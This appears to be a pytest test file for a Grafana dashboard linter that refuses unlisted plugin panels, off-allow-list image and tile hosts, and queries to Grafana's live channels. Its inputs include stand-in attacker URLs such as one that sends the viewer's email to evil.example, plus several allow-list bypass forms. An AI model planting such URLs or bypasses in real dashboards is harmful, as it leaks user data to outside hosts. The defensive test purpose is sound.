"""Browsers fetch content only from Grafana or an allowed host, and panels of unknown plugins are refused."""

from typing import Any

import pytest

from varve.check.dashboard.granted import check
from varve.model.diagnostic import Report
from varve.model.source import Document, Map

GRAFANA: Map = {"url": "https://grafana.acme.example/", "allow": ["*.pictures.example"], "panels": ["acme-clock-panel"]}
PLUGIN = "check/unknown-panel"
OUTSIDE = "check/outside-content"
FOREIGN = "check/foreign-data-source"


def findings(panel: dict[str, Any], grafana: Map = GRAFANA) -> list[str]:
    report = Report()
    check(Document("traffic.json", {"panels": [panel]}), grafana, report)
    return [each.rule.code for each in report]


def text(content: str) -> dict[str, Any]:
    return {"id": 1, "type": "text", "options": {"mode": "markdown", "content": content}}


def canvas(url: str) -> dict[str, Any]:
    image = {"mode": "fixed", "fixed": url}
    return {"id": 1, "type": "canvas", "options": {"root": {"elements": [{"background": {"image": image}}]}}}


def layer(url: str) -> dict[str, Any]:
    return {"id": 1, "type": "geomap", "options": {"basemap": {"type": "xyz", "config": {"url": url}}}}


@pytest.mark.parametrize(
    "kind",
    ["news", "grafana-worldmap-panel", "marcusolsson-dynamictext-panel", "library-panel-ref", "Text", "acme-clock"],
)
def test_a_panel_that_is_not_granted_is_refused(kind: str) -> None:
    assert findings({"id": 1, "type": kind}) == [PLUGIN]


def test_a_plugin_is_granted_by_its_id() -> None:
    clock = {"id": 1, "type": "acme-clock-panel"}
    assert findings(clock) == []
    assert findings(clock, {}) == [PLUGIN]
    assert findings({"id": 1, "type": "timeseries"}, {}) == []


@pytest.mark.parametrize(
    "url",
    [
        "https://evil.example/x.png",
        "http://evil.example/?who=${__user.email}",
        "//evil.example/x.png",
        "\\\\evil.example/x.png",
        "HTTPS://EVIL.example/x.png",
        "https://pictures.example/x.png",
        "https://a.pictures.example.evil.example/x.png",
        "https://a.pictures.example@evil.example/x.png",
        "https://${host}/x.png",
        "https://$host.pictures.example/x.png",
        "${address}",
        "[[address]]",
        "https://{s}.pictures.example/x.png",
        "https:cdn.pictures.example/x.png",
        "ftp://a.pictures.example/x.png",
    ],
)
def test_a_picture_from_elsewhere_is_refused(url: str) -> None:
    assert findings(text(f"![a]({url})")) == findings(text(f"x ![a [b] c]( <{url}> 'title')")) == [OUTSIDE]
    assert findings(text(f"![a][logo]\n\n[logo]: {url}")) == findings(text(f"![logo]\n\n[logo]: {url}")) == [OUTSIDE]
    assert findings({**text(""), "description": f"![a]({url})"}) == [OUTSIDE]


@pytest.mark.parametrize(
    "url",
    [
        "/public/img/logo.svg",
        "public/img/logo.svg",
        "https://grafana.acme.example/public/x.png",
        "https://cdn.pictures.example/x.png",
        "https://cdn.pictures.example/${service}.png",
        "HTTPS://CDN.pictures.example?x",
        "data:image/png;base64,AAAA",
    ],
)
def test_a_picture_from_grafana_or_a_granted_host_is_valid(url: str) -> None:
    assert findings(text(f"![a]({url})")) == findings(canvas(url)) == []


@pytest.mark.parametrize("make", [canvas, layer])
def test_a_canvas_or_a_map_may_fetch_from_granted_hosts_only(make: Any) -> None:  # noqa: ANN401 - of both
    assert findings(make("https://evil.example/{z}/{x}/{y}.png")) == [OUTSIDE]
    assert findings(make("https://tiles.pictures.example/{z}/{x}/{y}.png")) == []


def test_a_granted_plugin_may_fetch_from_granted_hosts_only() -> None:
    assert findings({"id": 1, "type": "acme-clock-panel", "options": {"feed": "https://evil.example/rss"}}) == [OUTSIDE]


SOURCES: list[Any] = ["-- Grafana --", "grafana", {"type": "grafana", "uid": "grafana"}, {"uid": "-- Grafana --"}]


@pytest.mark.parametrize("source", SOURCES)
def test_queries_to_grafana_itself_are_refused_unless_harmless(source: object) -> None:
    for query_type in ("measurements", "list", "read", "search", "Measurements"):
        query = {"refId": "A", "queryType": query_type, "channel": "ds/of-somebody/tail"}
        assert findings({"id": 1, "type": "stat", "datasource": source, "targets": [query]}) == [FOREIGN]
        assert findings({"id": 1, "type": "stat", "targets": [{**query, "datasource": source}]}) == [FOREIGN]
    for query_type in ("", "randomWalk", "timeRegions"):
        query = {"refId": "A", "queryType": query_type}
        assert findings({"id": 1, "type": "stat", "datasource": source, "targets": [query]}) == []


def test_a_query_to_prometheus_may_have_any_type() -> None:
    query = {"refId": "A", "queryType": "range", "expr": "up"}
    assert findings({"id": 1, "type": "stat", "targets": [query]}) == []
    assert findings({"id": 1, "type": "stat", "datasource": {"type": "prometheus"}, "targets": [query]}) == []


def test_a_link_that_people_click_may_lead_anywhere() -> None:
    link = {"title": "More", "url": "https://anywhere.example/"}
    assert findings(text("[more](https://anywhere.example/)")) == []
    assert findings({**canvas("/x.png"), "links": [link]}) == []
    assert findings({"id": 1, "type": "canvas", "options": {"root": {"elements": [{"links": [link]}]}}}) == []
    assert findings({"id": 1, "type": "geomap", "fieldConfig": {"defaults": {"links": [link]}}}) == []


def test_without_granted_hosts_only_grafana_is_allowed() -> None:
    assert findings(text("![a](https://cdn.pictures.example/x.png)"), {}) == [OUTSIDE]
    assert findings(text("![a](/public/x.png)"), {}) == []


def test_constants_of_an_export_are_filled_in_before_the_check() -> None:
    report = Report()
    constant: Map = {"name": "C", "type": "constant", "value": "https://evil.example"}
    check(Document("x.json", {"__inputs": [constant], "panels": [text("![a](${C}/x.png)")]}), GRAFANA, report)
    assert [each.rule.code for each in report] == [OUTSIDE]
